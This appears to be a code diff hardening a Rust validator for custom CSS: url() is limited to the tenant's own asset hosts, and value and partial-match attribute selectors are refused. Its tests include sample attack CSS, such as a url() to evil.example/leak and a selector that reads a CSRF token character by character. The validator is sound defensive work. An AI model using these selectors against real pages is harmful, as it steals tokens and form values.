@@ -23,7 +23,13 @@ const FORBIDDEN_IDENTS: &[&str] = &[
 ];
 
 /// Returns `Err` with a message naming the line when `css` may not be served.
-pub fn check(css: &str) -> Result<(), String> {
+///
+/// `url()` must be https and on one of `asset_hosts` (the hosts of the tenant's own branding
+/// images): a stylesheet that may fetch from anywhere can report what the page shows.
+/// Attribute selectors on `value`, and any attribute selector matching a prefix, suffix or
+/// substring (`^=`, `$=`, `*=`), are refused: together with a `url()` per guess they read
+/// tokens and form values out of the page one character at a time.
+pub fn check(css: &str, asset_hosts: &[String]) -> Result<(), String> {
     if css.len() > MAX_CSS_BYTES {
         return Err(format!(
             "Custom CSS is {} KB; the limit is {} KB.",
@@ -36,17 +42,33 @@ pub fn check(css: &str) -> Result<(), String> {
     }
     let mut input = ParserInput::new(css);
     let mut parser = Parser::new(&mut input);
-    walk(&mut parser, None, css)
+    walk(&mut parser, None, css, asset_hosts)
 }
+
+/// Marks the inside of a `[...]` block for `walk`.
+const BRACKETS: &str = "[";
 
 fn line_of(p: &Parser<'_, '_>) -> u32 {
     p.current_source_location().line + 1
 }
 
-fn https_only(url: &str, line: u32) -> Result<(), String> {
+fn https_only(url: &str, line: u32, asset_hosts: &[String]) -> Result<(), String> {
     let u = url.trim();
     if u.len() >= 8 && u[..8].eq_ignore_ascii_case("https://") {
-        Ok(())
+        let host = url::Url::parse(u)
+            .ok()
+            .and_then(|p| p.host_str().map(str::to_ascii_lowercase));
+        match host {
+            Some(h) if asset_hosts.iter().any(|a| a.eq_ignore_ascii_case(&h)) => Ok(()),
+            _ => Err(format!(
+                "Line {line}: url() may only point at the hosts of your logo, favicon or login background ({}).",
+                if asset_hosts.is_empty() {
+                    "none set yet".to_string()
+                } else {
+                    asset_hosts.join(", ")
+                }
+            )),
+        }
     } else {
         Err(format!(
             "Line {line}: only https:// addresses are allowed in url() (found '{}').",
@@ -55,13 +77,33 @@ fn https_only(url: &str, line: u32) -> Result<(), String> {
     }
 }
 
-fn walk<'i>(p: &mut Parser<'i, '_>, function: Option<&str>, src: &str) -> Result<(), String> {
+fn walk<'i>(
+    p: &mut Parser<'i, '_>,
+    function: Option<&str>,
+    src: &str,
+    hosts: &[String],
+) -> Result<(), String> {
     loop {
         let line = line_of(p);
         let token = match p.next_including_whitespace_and_comments() {
             Ok(t) => t.clone(),
             Err(_) => return Ok(()),
         };
+        if function == Some(BRACKETS) {
+            match &token {
+                Token::PrefixMatch | Token::SuffixMatch | Token::SubstringMatch => {
+                    return Err(format!(
+                        "Line {line}: attribute selectors with ^=, $= or *= are not allowed."
+                    ));
+                }
+                Token::Ident(i) if i.eq_ignore_ascii_case("value") => {
+                    return Err(format!(
+                        "Line {line}: attribute selectors on 'value' are not allowed."
+                    ));
+                }
+                _ => {}
+            }
+        }
         match &token {
             Token::AtKeyword(name) if name.eq_ignore_ascii_case("import") => {
                 return Err(format!(
@@ -76,7 +118,7 @@ fn walk<'i>(p: &mut Parser<'i, '_>, function: Option<&str>, src: &str) -> Result
                     "Line {line}: @{name} is not allowed in custom CSS."
                 ));
             }
-            Token::UnquotedUrl(u) => https_only(u, line)?,
+            Token::UnquotedUrl(u) => https_only(u, line, hosts)?,
             Token::BadUrl(_) | Token::BadString(_) => {
                 return Err(format!(
                     "Line {line}: a url() or string is not closed properly."
@@ -85,7 +127,7 @@ fn walk<'i>(p: &mut Parser<'i, '_>, function: Option<&str>, src: &str) -> Result
             Token::QuotedString(s) => {
                 if function.is_some_and(|f| URL_FUNCTIONS.iter().any(|u| f.eq_ignore_ascii_case(u)))
                 {
-                    https_only(s, line)?;
+                    https_only(s, line, hosts)?;
                 }
                 let lower = s.to_ascii_lowercase();
                 if lower.contains("javascript:") || lower.contains("</style") || lower.contains('<')
@@ -120,9 +162,8 @@ fn walk<'i>(p: &mut Parser<'i, '_>, function: Option<&str>, src: &str) -> Result
                 }
                 Some(Some(name.to_string()))
             }
-            Token::ParenthesisBlock | Token::SquareBracketBlock | Token::CurlyBracketBlock => {
-                Some(None)
-            }
+            Token::SquareBracketBlock => Some(Some(BRACKETS.to_string())),
+            Token::ParenthesisBlock | Token::CurlyBracketBlock => Some(None),
             _ => None,
         };
         if let Some(name) = nested_fn {
@@ -132,7 +173,8 @@ fn walk<'i>(p: &mut Parser<'i, '_>, function: Option<&str>, src: &str) -> Result
                 _ => ')',
             };
             let inner: Result<(), cssparser::ParseError<'i, String>> = p.parse_nested_block(|np| {
-                walk(np, name.as_deref().or(function), src).map_err(|m| np.new_custom_error(m))
+                walk(np, name.as_deref().or(function), src, hosts)
+                    .map_err(|m| np.new_custom_error(m))
             });
             if let Err(e) = inner {
                 return Err(match e.kind {
@@ -152,7 +194,12 @@ fn walk<'i>(p: &mut Parser<'i, '_>, function: Option<&str>, src: &str) -> Result
 
 #[cfg(test)]
 mod tests {
-    use super::check;
+    fn check(css: &str) -> Result<(), String> {
+        super::check(
+            css,
+            &["cdn.example.com".to_string(), "x.example".to_string()],
+        )
+    }
 
     #[test]
     fn ordinary_css_passes() {
@@ -164,6 +211,10 @@ mod tests {
         );
         assert_eq!(
             check("h1{background:url(\"https://x.example/a.png\")}"),
+            Ok(())
+        );
+        assert_eq!(
+            check("input[type=\"checkbox\"] { margin: 0 }\na[href] { color: red }"),
             Ok(())
         );
         assert_eq!(check(""), Ok(()));
@@ -194,6 +245,18 @@ mod tests {
                 "a { background: image-set('http://x.example/a.png' 1x) }",
                 "https://",
             ),
+            (
+                "a { background: url(https://evil.example/leak?a) }",
+                "hosts of your logo",
+            ),
+            (
+                "input[name=_csrf][value^=\"a\"] { background: url(https://x.example/a) }",
+                "'value'",
+            ),
+            ("input[VALUE=\"x\"] { color: red }", "'value'"),
+            ("a[href^=\"https\"] { color: red }", "^="),
+            ("a[data-token$=\"z\"] { color: red }", "^="),
+            ("a[title*=\"z\"] { color: red }", "^="),
         ] {
             let err = check(css).expect_err(css);
             assert!(err.contains(needle), "{css}: {err}");
